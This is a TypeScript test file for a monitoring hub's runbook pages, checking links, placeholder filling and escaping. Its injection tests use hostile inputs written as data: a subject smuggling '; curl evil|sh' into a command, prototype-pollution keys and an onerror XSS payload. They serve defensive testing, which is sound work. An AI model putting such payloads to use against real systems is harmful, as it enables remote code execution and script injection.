import { readdirSync } from "node:fs";
import { expect, it } from "vitest";
import { alertSeverities } from "../../../hub/core/alert-names.ts";
import { pageAssets } from "../../../hub/page/assets.ts";
import { runbookHref } from "../../../hub/page/runbook-links.ts";
import { runbookPages } from "../../../hub/page/runbooks/pages.ts";
import { fleetView } from "./fixture.ts";
import { servicesView } from "./sections-fixture.ts";

const pages = runbookPages({
  runbooks: pageAssets().runbooks,
  version: "abc",
  sight: () => ({ ...fleetView(), services: servicesView() }),
});

function read(href: string): string {
  const { pathname, searchParams } = new URL(href, "http://hub");
  const page = pages.get(pathname);
  if (page === undefined) throw new Error(`nothing at ${pathname}`);
  return page(searchParams);
}

it("every alert's link leads to its runbook, and every file of docs/runbooks but its own list is served", () => {
  for (const name of Object.keys(alertSeverities)) expect(read(runbookHref(name, "pc2"))).toContain(`<h1>${name}</h1>`);
  const folder = new URL("../../../docs/runbooks/", import.meta.url);
  const files = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((path) => path.endsWith(".md"));
  expect(pages.size).toBe(files.length - 1 + 1);
});

it("the subject of an alert fills in machine, peer and addresses; what a hub does not know stays in braces", () => {
  const page = read(runbookHref("hub-lost", "mainpc"));
  expect(page).toContain("No beat of mainpc&#39;s hub came");
  expect(page).toContain("curl -sS -m 3 http://127.0.0.1:9000/livez");
  expect(page).toContain("tandem ledger --hub http://127.0.0.1:9100");
  expect(page).toContain("{data}/mainpc/logs/hub.log");
  expect(read("/runbooks/hub-lost")).toContain("curl -sS -m 3 {hub}/livez");
});

it("of a service it is the machine that owns it, and of an agent its own", () => {
  expect(read(runbookHref("service-held", "STTService"))).toContain("STTService");
  expect(read(runbookHref("agent-unhealthy", "pc2/TutorAgent"))).toContain("TutorAgent");
});

it("a subject that the hub does not know, written into a link by anybody, comes into no command", () => {
  const bodyOf = (page: string) => page.replace(/<p class="soft">about [^<]*<\/p>/, "");
  const open = read("/runbooks/agent-unhealthy");
  for (const subject of ['"; curl evil|sh', 'mainpc/"; curl evil|sh', "constructor", "__proto__", "constructor/x"])
    expect(bodyOf(read(runbookHref("agent-unhealthy", subject))), subject).toBe(open);
});

it("a subject with tags stays text, and nothing in any page asks another host or stands inline", () => {
  const page = read(runbookHref("hub-lost", '<img src=x onerror="alert(1)">'));
  expect(page).not.toContain("<img");
  for (const path of pages.keys()) {
    const text = read(path);
    expect(text, path).not.toMatch(/<script|<style|\sstyle=|\son[a-z]+=/);
    const loaded = [...text.matchAll(/(?:<link[^>]*href|src)="([^"]*)"/g)].map(([, address]) => address ?? "");
    expect(loaded.filter((address) => !address.startsWith("/assets/") && !address.startsWith("data:"))).toEqual([]);
  }
});

it("links between runbooks lead on, and every one on the list is answered", () => {
  const list = read("/runbooks/");
  const links = [...list.matchAll(/<a href="([^"]*)"/g)].map(([, href]) => href ?? "");
  expect(links.filter((href) => href !== "/").length).toBeGreaterThan(20);
  for (const path of pages.keys())
    for (const [, href = ""] of read(path).matchAll(/<a href="(\/runbooks[^"]*)"/g))
      expect(() => read(href)).not.toThrow();
});
